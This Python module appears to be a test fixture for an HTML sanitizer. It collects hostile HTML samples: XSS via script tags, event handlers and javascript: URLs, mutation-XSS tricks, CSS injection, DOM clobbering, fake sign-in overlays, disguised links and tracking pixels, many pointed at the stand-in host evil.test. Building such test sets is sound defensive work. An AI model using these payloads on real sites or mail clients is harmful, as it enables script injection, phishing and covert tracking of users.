"""HTML that means harm. Each tries to run `{run}`, to reach {evil}, or to leave its place on the page."""

EVIL = "http://evil.test"
RUN = "top.canary=parent.canary=window.canary=1"

SAMPLES: dict[str, str] = {
    "scripts": '<script>{run}</script><script src="{evil}/s.js"></script><p>a</p><scr<script>ipt>{run}</script>',
    "handlers": '<img src=x onerror="{run}"><body onload="{run}"><p onmouseover="{run}" onclick={run}>b</p>'
    '<details open ontoggle="{run}"><summary>s</summary></details><svg onload="{run}"><marquee onstart="{run}">m</marquee>',
    "script links": '<a href="javascript:{run}">js</a><a href="JaVa&#09;Script:{run}">tab</a><a href="&#1;javascript:{run}">1</a>'
    '<a href="vbscript:{run}">vb</a><a href="data:text/html,<script>{run}</script>">data</a><a href="\x00javascript:{run}">n</a>',
    "refresh and base": '<meta http-equiv="refresh" content="0;url={evil}/m"><base href="{evil}/" target="_top"><a href="x">b</a>'
    '<meta http-equiv="Content-Security-Policy" content="default-src *"><title>Signed out</title>',
    "forms": '<form action="{evil}/f" id="composer"><input name="password" autofocus onfocus="{run}"><button formaction='
    '"javascript:{run}">Sign in</button></form><input type=image src="{evil}/i"><isindex action="{evil}"><keygen autofocus>',
    "svg": '<svg><script>{run}</script><a xlink:href="javascript:{run}"><text>t</text></a><image href="{evil}/g.png"/>'
    '<use href="data:image/svg+xml,x"/><foreignObject><iframe src="javascript:{run}"></iframe></foreignObject></svg>',
    "svg pictures": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"><img src="{evil}/x.svg">',
    "mutation by math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">'
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror={run}>"></noscript><xmp><img src=x onerror={run}>'
    '</xmp><template><img src=x onerror={run}></template><plaintext><img src=x onerror={run}>',
    "mutation by namespaces": '<svg></p><style><a id="</style><img src=1 onerror={run}>"></svg><select><style></select>'
    "<img src=x onerror={run}></style>",
    "mutation by comments": "<!--><img src=x onerror={run}>--><!--[if mso]><script>{run}</script><![endif]--><![CDATA[<img src=x "
    "onerror={run}>]]><?xml <img src=x onerror={run}>?>",
    "styles": '<style>@import "{evil}/a.css";body{{background:url({evil}/b.png)}}.composer{{display:none}}'
    "*{{visibility:hidden}}</style><link rel=stylesheet href={evil}/l.css><p>styled</p>",
    "style attributes": '<p style="background:url({evil}/1.png)">1</p><p style="background-image:u\\72l({evil}/2.png)">2</p>'
    '<p style="width:expression({run})">3</p><p style="behavior:url({evil}/4.htc)">4</p><p style="-moz-binding:url({evil}/5)">5</p>'
    '<p style="list-style-image:url({evil}/6.png)">6</p><p style="content:url({evil}/7.png);cursor:url({evil}/8.cur),auto">7</p>',
    "overlay": '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff;width:100vw;height:100vh">Your session has '
    'expired. <a href="{evil}/login">Sign in</a></div><div style="position:absolute;top:0;left:0;width:9999px;height:9999px">x</div>',
    "moved": '<div style="margin-top:-3000px;margin-left:-3000px;width:6000px;transform:scale(50)">moved</div>'
    '<p style="text-indent:-9999px">indent</p><table style="margin:-500px"><tr><td>t</td></tr></table>',
    "tall": '<div style="height:100vh">v</div><div style="height:999999px">t</div><div style="min-height:200%">m</div>',
    "srcset": '<img srcset="{evil}/a.png 1x, {evil}/b.png 2x"><picture><source srcset="{evil}/c.png"><img src="{evil}/d.png">'
    '</picture><img lowsrc="{evil}/e.png" dynsrc="{evil}/f.png" longdesc="{evil}/g" usemap="#m">',
    "old attributes": '<table background="{evil}/t.png"><tr background="{evil}/r.png"><td background="{evil}/d.png">t</td></tr></table>'
    '<body background="{evil}/b.png" bgcolor="#000" text="#000" link="#000"><font face="x" size="999">f</font>',
    "rel": '<link rel="prefetch" href="{evil}/p"><link rel="dns-prefetch" href="//evil.test"><link rel="preconnect" href="{evil}">'
    '<link rel="icon" href="{evil}/i.ico"><a ping="{evil}/ping" href="{evil}/a" download>p</a>',
    "embedded": '<iframe src="{evil}/i"></iframe><iframe srcdoc="<script>{run}</script>"></iframe><object data="{evil}/o"></object>'
    '<embed src="{evil}/e"><applet code="{evil}/a"></applet><frameset><frame src="{evil}/f"></frameset><portal src="{evil}"></portal>',
    "media": '<video src="{evil}/v" poster="{evil}/p.png" autoplay onloadstart="{run}"></video><audio src="{evil}/a" autoplay></audio>'
    '<video><source onerror="{run}" src="x"><track src="{evil}/t"></video><bgsound src="{evil}/b">',
    "clobbering": '<p id="composer">1</p><p id="toasts">2</p><p id="panes">3</p><a id="location" name="cookie">4</a><img name="body">'
    '<form name="getElementById"></form><a id="canary" href="{evil}/clobbered">5</a><p id="seen-message">6</p>',
    "our own elements": '<opora-mail><iframe src="{evil}"></iframe></opora-mail><opora-editor src="{evil}/e.js"></opora-editor>'
    '<p hx-get="{evil}/hx" hx-trigger="load" data-hx-get="{evil}/dhx" class="button toast" data-live="x" data-dialog>h</p>'
    '<button hx-post="/desk/tickets/1/status/" name=status value=closed>Close</button>',
    "reversed": "<p>\u202egnp.exe.fdp \u2066isolate \u202dforced</p><p>" + "\u202e" * 500 + "</p><p>"
    + "Z" + "\u0300" * 3000 + "</p>",
    "huge table": "<table border=1 width=5000>" + "<tr>" + "<td>cell cell</td>" * 120 + "</tr>" * 1 + ("<tr>" + "<td>1</td>" * 120 + "</tr>") * 6
    + "</table>",
    "wide": '<table width="5000" border="1"><tr><td width="2500">a</td><td nowrap>'
    + "long " * 300 + '</td></tr><tr><td>c</td><td>d</td></tr></table><div style="width:5000px">wide</div><p>'
    + "w" * 5000 + "</p><pre>" + "p" * 3000 + "</pre><img width=5000 height=9000 src='{evil}/w.png'>",
    "disguised": '<a href="{evil}/login" title="https://bank.example/">https://bank.example/login</a>'
    '<a href="https://bank.example@evil.test/">bank.example</a><a href="//evil.test/">relative</a>',
    "nested deep": "<div>" * 700 + "deep" + "</div>" * 700 + "<table><tr><td>" * 200 + "t",
    "pixels": '<img src="{evil}/1.gif" width=1 height=1><img src="//evil.test/2.gif" style="display:none"><img src="{evil}/3.png">',
    "cid tricks": '<img src="cid:../../../desk/"><img src="cid:x" onerror="{run}"><img src="cid:&quot; onerror=&quot;{run}">'
    '<img src=" cid:y"><img src="CID:z"><img src="cid:">',
    "encoded": "<p>&lt;script&gt;{run}&lt;/script&gt;</p><p>%3Cscript%3E{run}%3C/script%3E</p>+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "broken": "<p <b <i onclick={run} <<a href='{evil}'>x</p></a></div></div></div></article></main></body></html><h1>after</h1>",
    "only pictures": '<a href="{evil}/c"><img src="{evil}/all.png" width="5000" height="100" alt="Your invoice"></a>',
    "nothing": "<p></p><br>&nbsp;",
}  # fmt: skip


def samples() -> dict[str, str]:
    """All of them, aimed."""
    return {
        name: html.replace("{run}", RUN).replace("{evil}", EVIL).replace("{{", "{").replace("}}", "}")
        for name, html in SAMPLES.items()
    }
